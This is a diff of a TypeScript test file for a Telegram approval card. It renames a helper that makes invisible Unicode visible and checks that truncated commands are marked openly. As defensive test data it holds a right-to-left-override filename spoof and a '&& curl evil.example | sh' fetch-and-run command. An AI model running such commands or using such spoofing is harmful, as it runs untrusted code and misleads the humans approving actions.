@@ -1,7 +1,8 @@
 import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
-import { cardHtml, sealIn, sealOf, visible } from '../../../../../src/adapters/channels/telegram/cards/card.ts';
+import { cardHtml, sealIn, sealOf } from '../../../../../src/adapters/channels/telegram/cards/card.ts';
 import { telegramTexts } from '../../../../../src/adapters/channels/telegram/texts.ts';
+import { exactlyWithTabs } from '../../../../../src/domain/text/visible.ts';
 import { card } from '../../../../contracts/channel.ts';
 import { parseHtml } from '../../../../peers/telegram-markup.ts';
 
@@ -52,10 +53,10 @@ describe('an approval card', () => {
 
   test('given characters that nobody sees, then they are shown by number, in every field', () => {
     assert.equal(
-      visible('a\u202eb\u200bc\u0007d\u00a0e\u{e0041}f\ufe0fg\u2028h\ud800'),
+      exactlyWithTabs('a\u202eb\u200bc\u0007d\u00a0e\u{e0041}f\ufe0fg\u2028h\ud800'),
       'a⟨U+202E⟩b⟨U+200B⟩c⟨U+0007⟩d⟨U+00A0⟩e⟨U+E0041⟩f⟨U+FE0F⟩g⟨U+2028⟩h⟨U+D800⟩',
     );
-    assert.equal(visible('line\n\tnext ✓ é 漢'), 'line\n\tnext ✓ é 漢');
+    assert.equal(exactlyWithTabs('line\n\tnext ✓ é 漢'), 'line\n\tnext ✓ é 漢');
     const hostile = '\u202egpj.exe\u2066';
     const text = shown(
       cardHtml({ ...card, exact: hostile, intent: hostile, reasons: [hostile], tool: hostile, session: hostile }, look),
@@ -74,7 +75,7 @@ describe('an approval card', () => {
       assert.match(text, /&& curl evil\.example \| sh\n/);
       const missing = Number(/… ([\d ]+) characters in the middle/.exec(text)?.[1]?.replaceAll(' ', ''));
       const [head = '', tail = ''] = [...html.matchAll(/<pre>([\s\S]*?)<\/pre>/g)].map(match => shown(match[1] ?? ''));
-      assert.equal(head.length + tail.length + missing, visible(exact).length);
+      assert.equal(head.length + tail.length + missing, exactlyWithTabs(exact).length);
       // The note stands outside the fixed-width text, so a command that contains such a note is told apart.
       assert.doesNotMatch(html, /<pre>[^<]*in the middle/);
       const settled = shown(cardHtml({ ...card, exact }, look, { outcome: 'undelivered', by: 'x'.repeat(500) }));
